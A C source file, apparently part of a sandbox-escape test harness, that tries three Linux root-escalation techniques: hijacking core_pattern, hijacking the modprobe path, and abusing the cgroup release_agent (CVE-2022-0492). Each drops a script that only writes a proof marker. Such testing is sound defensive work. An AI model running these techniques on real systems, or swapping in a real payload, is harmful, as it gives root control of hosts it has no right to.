/*
 * The classics, for a virtual machine only: the kernel starts a program of the attacker's as root
 * of the whole machine. What it leaves proves it, in a directory where everybody may write.
 */
#define _GNU_SOURCE
#include "escape.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { PATIENCE = 50, INTERVAL_US = 100000 };

static char payload[64], proof[128];

static bool make_payload(const char *name) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    const char *marks = given("MARKS");
    snprintf(payload, sizeof payload, "%s/%s-%ld", marks, name, now.tv_nsec);
    snprintf(proof, sizeof proof, "%s.taken", payload);
    int file = open(payload, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755);
    bool made =
        file >= 0 && dprintf(file, "#!/bin/sh\n>%s\n", proof) > 0 && fchmod(file, 0755) == 0;
    close(file);
    return made;
}
static long await_proof(void) {
    for (int round = 0; round < PATIENCE && access(proof, F_OK) < 0; round++)
        usleep(INTERVAL_US);
    return access(proof, F_OK);
}
static long take_core_dumps(void) {
    char pattern[sizeof payload + 1];
    if (!make_payload("core"))
        return -1;
    snprintf(pattern, sizeof pattern, "|%s", payload);
    if (write_text("/proc/sys/kernel/core_pattern", pattern) < 0)
        return -1;
    if (fork() == 0) {
        setrlimit(RLIMIT_CORE, &(struct rlimit){0, 0});
        abort();
    }
    long taken = await_proof();
    write_text("/proc/sys/kernel/core_pattern", "core");
    return taken;
}
static long take_module_loading(void) {
    enum { PROTOCOL_OF_NO_MODULE = 31 };
    if (!make_payload("modprobe") || write_text("/proc/sys/kernel/modprobe", payload) < 0)
        return -1;
    close(socket(AF_NETLINK, SOCK_RAW, PROTOCOL_OF_NO_MODULE));
    long taken = await_proof();
    write_text("/proc/sys/kernel/modprobe", "/sbin/modprobe");
    return taken;
}
/* CVE-2022-0492: a hierarchy of our own, whose root has the file in any case. */
static long release_cgroup(const char *root) {
    char child[64], path[128];
    snprintf(child, sizeof child, "%s/child", root);
    snprintf(path, sizeof path, "%s/release_agent", root);
    mkdir(child, 0755);
    if (write_text(path, payload) < 0)
        return -1;
    snprintf(path, sizeof path, "%s/notify_on_release", child);
    write_text(path, "1");
    snprintf(path, sizeof path, "%s/cgroup.procs", child);
    pid_t process = fork();
    if (process == 0)
        _exit(write_text(path, "0") < 0);
    waitpid(process, NULL, 0);
    long taken = await_proof();
    rmdir(child);
    return taken;
}
static long take_release_agent(void) {
    static const char root[] = "/var/tmp";
    if (!make_payload("agent") || mount("none", root, "cgroup", 0, "none,name=escape") < 0)
        return -1;
    long taken = release_cgroup(root);
    int error = errno;
    umount2(root, MNT_DETACH);
    errno = error;
    return taken;
}

const struct attempt on_payloads[] = {
    ATTEMPT(take_core_dumps),
    ATTEMPT(take_module_loading),
    ATTEMPT(take_release_agent),
    END_OF_ATTEMPTS,
};
